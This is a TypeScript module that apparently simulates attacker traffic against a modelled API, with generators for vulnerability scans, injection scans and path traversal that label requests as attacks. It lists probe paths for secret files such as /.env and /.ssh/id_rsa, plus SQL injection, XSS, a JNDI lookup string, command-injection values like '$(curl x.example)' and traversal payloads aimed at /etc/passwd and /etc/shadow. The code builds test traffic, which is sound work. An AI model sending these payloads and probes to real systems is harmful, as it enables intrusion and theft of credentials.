/** Searches for holes: known paths, values that a database or a page might run. */

import { ask, type Context, type Course, enter, isStopped, pickResource, pretend, step, write } from './actor.ts';
import { idOf } from './api.ts';
import { drawBodySize, rests, tries } from './bad-habits.ts';

export const PROBES =
  '/.env /.env.bak /.env.local /.git/config /.git/HEAD /.svn/entries /.aws/credentials /.htaccess /.htpasswd /.DS_Store /.ssh/id_rsa /wp-login.php /wp-admin/ /wp-admin/setup-config.php /wp-content/plugins/ /wp-includes/wlwmanifest.xml /xmlrpc.php /phpmyadmin/ /pma/ /mysql/ /admin.php /administrator/ /cgi-bin/ /cgi-bin/luci /server-status /phpinfo.php /info.php /test.php /config.php /config.json /config.yml /config.bak /backup.zip /backup/ /dump.sql /shell.php /manager/html /actuator/env /actuator/heapdump /solr/admin/info /jenkins/login /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /boaform/admin/formLogin /HNAP1/ /web.config /setup.php /install.php /console /debug /api/swagger.json /swagger-ui.html /v2/api-docs /.well-known/security.txt /robots.txt /sitemap.xml /crossdomain.xml /telescope/requests /_ignition/execute-solution /owa/auth/logon.aspx /remote/login /login.action /struts/ /api/jsonws /druid/index.html /nacos/ /geoserver/web/ /ecp/ /autodiscover/ /HNAP1 /GponForm/diag_Form /portal/redlion /api/v1/pods /metrics /graphql /admin/config'.split(
    ' ',
  );
export const COMMON =
  'admin about account api app archive assets auth backup beta bin blog cache cgi config contact console css dashboard data db debug default demo dev docs download downloads error export files forum help home images img include index info install js lib log login logs mail main media members misc new news old pages panel php private public register reports root scripts search secret secure server services setup shop site sql src staff static stats status store support sys system temp test tmp tools upload uploads user users util v1 v2 web webmail www xml internal orders customers payments invoices health metrics graphql token keys'.split(
    ' ',
  );
const ENDINGS = ['', '', '', '/', '.php', '.html', '.bak', '.old', '.zip', '.txt', '.json', '.asp', '.jsp', '~'];

type Guess = (i: number) => string;

/** Where it looks: known holes, common words, words under the API's base, or what is there with a part changed. */
function drawGuesses(ctx: Context): Guess {
  const { random, api } = ctx;
  const endings = random.shuffle(ENDINGS).slice(0, random.int(1, 4));
  const words = random.chance(0.5) ? COMMON : random.shuffle(COMMON);
  const probes = random.shuffle(PROBES);
  const list = random.weighted({ probes: 4, words: 4, both: 3, api: 3, routes: 3 });
  const root = list === 'api' || random.chance(0.15) ? `${random.pick([api.base, pickResource(ctx).path])}/` : '/';
  const isProbe = list === 'probes' ? 1 : list === 'both' ? random.real(0.1, 0.9) : 0;
  const routes = random.shuffle(
    [...api.endpoints.keys(), ...api.resources.map(({ path }) => path)].filter((path) => !path.includes('?')),
  );
  const tails = random.shuffle(['', '/', '/admin', '/all', '/1', '/config', '/export', '.json', '/..;/', '/internal']);
  const knows = random.real(0.3, 1);
  return (i) => {
    const word = `${words[Math.floor(i / endings.length) % words.length]}${i >= words.length * endings.length ? i : ''}`;
    if (list === 'routes' && random.chance(knows))
      return routes[i % routes.length]! + tails[Math.floor(i / routes.length) % tails.length]!;
    return random.chance(isProbe) ? probes[i % probes.length]! : `${root}${word}${endings[i % endings.length]}`;
  };
}

/** Lists of paths that are tried one after the other; what most of them answer depends on who asks, and on the server. */
export function* vulnerabilityScan(ctx: Context): Course {
  const { random, api } = ctx;
  const guess = drawGuesses(ctx);
  const methods = random.pick([
    ['GET'],
    ['GET'],
    ['GET'],
    ['HEAD'],
    ['POST'],
    ['OPTIONS'],
    ['GET', 'POST'],
    ['HEAD', 'GET', 'PUT'],
  ]);
  rests(ctx);
  if (random.chance(0.4)) yield* ask(ctx, step(ctx, 'GET', random.pick(['/', api.base || '/'])));
  const cover = random.pick([0, 0, 0, 0.05, 0.3]);
  if (random.chance(0.3) && !api.isSite) yield* enter(ctx);
  const bodyBytes = drawBodySize(random, 2, 900);
  const sendsAttacks = random.pick([0, 0, 0, 0.1, 0.5]);
  for (let i = 0, count = tries(ctx, 250); i < count && !isStopped(ctx); i++) {
    const path = guess(i);
    const method = methods[i % methods.length]!;
    const body = method === 'POST' || method === 'PUT' ? { bodyBytes: bodyBytes() } : {};
    const isAttack = path.startsWith('/.') || random.chance(sendsAttacks);
    yield* ask(ctx, step(ctx, method, path, { ...body, ...(isAttack ? { wish: 'attack' as const } : {}) }));
    yield* pretend(ctx, cover);
  }
}

export const INJECTIONS = [
  "' OR '1'='1",
  "1' AND 1=1-- -",
  '1 UNION SELECT NULL,NULL,NULL--',
  "' AND SLEEP(5)-- ",
  "1;WAITFOR DELAY '0:0:5'--",
  '1) AND 2=2 AND (3=3',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `$${'{'}jndi:ldap://a.example/x}`,
  '{{7*7}}',
  ';id',
  '|cat /etc/passwd',
  'extractvalue(1,concat(0x7e,version()))',
  "' ORDER BY 5-- ",
  '(SELECT 1 FROM information_schema.tables)',
  '%27%20or%201=1',
  '-1 OR 1=1',
  '1 AND 5821=5821',
  "admin'--",
  '`sleep 5`',
  '$(curl x.example)',
  '1/**/OR/**/1=1',
  '\u0000',
  "'",
  '"',
  '))',
  '-9999',
];
export const PARAMETERS = [
  'id',
  'q',
  'page',
  'sort',
  'filter',
  'user',
  'name',
  'file',
  'limit',
  'cat',
  'lang',
  'search',
  'order',
  'from',
  'ref',
  'callback',
];

/** Values that a database or a page might run, in one parameter after the other, in bodies or in paths. */
export function* injectionScan(ctx: Context): Course {
  const { random, api } = ctx;
  rests(ctx);
  if (!api.isSite && random.chance(0.5)) yield* enter(ctx);
  const cover = random.pick([0, 0, 0, 0.05, 0.3]);
  const known = random.real();
  const resource = pickResource(ctx);
  const where = random.weighted({ query: 5, body: 3, path: 1, mixed: 2 });
  const targets = [
    api.at('search'),
    resource.path,
    `${resource.path}/${idOf(resource, random.int(0, resource.count - 1))}`,
    random.pick(api.pages),
    api.at('query'),
  ].slice(0, random.int(1, 5));
  const crawls = random.chance(0.3);
  if (crawls) for (const path of targets) yield* ask(ctx, step(ctx, 'GET', path));
  for (let left = tries(ctx, 200); left > 0 && !isStopped(ctx); left--) {
    yield* pretend(ctx, cover);
    const text = encodeURIComponent(`${random.int(1, 99)}${random.pick(INJECTIONS)}`);
    const wish = random.chance(known) ? 'attack' : 'odd';
    const path = random.pick(targets);
    const at = where === 'mixed' ? random.pick(['query', 'body', 'path'] as const) : where;
    if (at === 'query') yield* ask(ctx, step(ctx, 'GET', path, { query: `${random.pick(PARAMETERS)}=${text}`, wish }));
    else if (at === 'body')
      yield* ask(ctx, write(ctx, 'POST', random.chance(0.3) ? api.at('login') : path, { wish, bodyBytes: random.int(30, 300) }));
    else yield* ask(ctx, step(ctx, 'GET', `${resource.path}/${text}`, { wish }));
  }
}

export function* pathTraversal(ctx: Context): Course {
  const { random, api } = ctx;
  const roots = ['/static', '/images', '/files', `${api.base}/files`, '/download', '/cgi-bin', '/assets', '/icons'];
  const files = [
    'etc/passwd',
    'etc/hosts',
    'windows/win.ini',
    'proc/self/environ',
    'etc/shadow',
    'var/log/auth.log',
    'app/config.yml',
  ];
  rests(ctx);
  if (!api.isSite && random.chance(0.2)) yield* enter(ctx);
  for (let left = tries(ctx, 80); left > 0 && !isStopped(ctx); left--) {
    const up = random.pick(['../', '..%2f', '%2e%2e/', '..%5c', '....//', '.%2e/']).repeat(random.int(1, 9));
    const inQuery = random.chance(0.4);
    const file = `${up}${random.pick(files)}`;
    yield* ask(
      ctx,
      step(ctx, 'GET', inQuery ? random.pick([...roots, api.at('search')]) : `${random.pick(roots)}/${file}`, {
        wish: 'attack',
        query: inQuery ? `${random.pick(PARAMETERS)}=${file}` : null,
      }),
    );
  }
}
